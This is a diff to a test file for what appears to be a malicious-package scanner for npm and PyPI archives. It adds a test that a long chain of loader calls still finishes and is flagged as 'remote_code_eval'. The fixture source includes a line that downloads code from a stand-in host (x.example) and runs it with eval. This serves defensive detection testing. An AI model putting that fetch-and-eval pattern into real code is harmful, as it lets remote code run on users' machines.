@@ -11,6 +11,7 @@ import { pyCodeView } from '../../shared/packages/analysis/codeview.js';
 import { jsFlow } from '../../shared/packages/analysis/npm/flow-js.js';
 import { PY_FLOW_BUDGET, pyFlow } from '../../shared/packages/analysis/npm/flow-py.js';
 import { makeSdist } from '../support/archives.js';
+import { npmTgz } from '../fixtures/archives/build.js';
 import { LABEL } from '../../shared/packages/analysis/npm/flow-rules.js';
 import { isMentionOnly } from '../../shared/packages/analysis/npm/mention.js';
 
@@ -194,6 +195,26 @@ test('an sdist with a 1 MB generated module: the analysis finishes and reports t
   const big = largeModule(1000);
   const a = await analyzeArchive(makeSdist('bigmod', '1.0.0', { 'setup.py': 'from setuptools import setup\nsetup(name="bigmod")\n', 'bigmod/__init__.py': 'from .gen import *\n', 'bigmod/gen.py': big }), { kind: 'tgz', registry: 'pypi' });
   assert.ok(a.findings.some((f) => f.ruleId === 'dns_recon' && f.file.endsWith('bigmod/gen.py')), JSON.stringify(a.findings.map((f) => f.ruleId)));
+});
+
+// canon and requireOf ask each other of one chain (a loader call's callee is canonicalised; canon of a member asks
+// requireOf of its object); a depth guard reset at each hop made each link double the work (pm2's CLI file hung for
+// over twenty minutes; 14 links of this shape took 45 s). No timing is asserted: the analysis must return, and the
+// flow written after the chain must still be read.
+test('loader properties that resolve through each other: a long chain of `_load` / `getBuiltinModule` calls finishes', async () => {
+  let chain = 'loader';
+  for (let i = 0; i < 40; i++) chain += i % 2 ? `.getBuiltinModule(opts[${i}])` : `._load(opts[${i}])`;
+  const src = `const loader = require('./loader');\nconst https = require('https');\nconst opts = process.argv.slice(2);\nconst mod = ${chain};\nhttps.get('https://x.example/p', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => eval(b)); });\nmodule.exports = mod;\n`;
+  assert.equal(js(src), ['remote_code_eval']);
+  const a = await analyzeArchive(
+    npmTgz({
+      'package.json': JSON.stringify({ name: 'chain-cli', version: '1.0.0', main: 'index.js' }),
+      'index.js': src,
+      'loader.js': `module.exports = { _load: (x) => module.exports, getBuiltinModule: (x) => module.exports };\n`,
+    }),
+    { kind: 'tgz', registry: 'npm' },
+  );
+  assert.ok(a.findings.some((f) => f.ruleId === 'remote_code_eval' && f.file.endsWith('index.js')), JSON.stringify(a.findings.map((f) => f.ruleId)));
 });
 
 test.run();
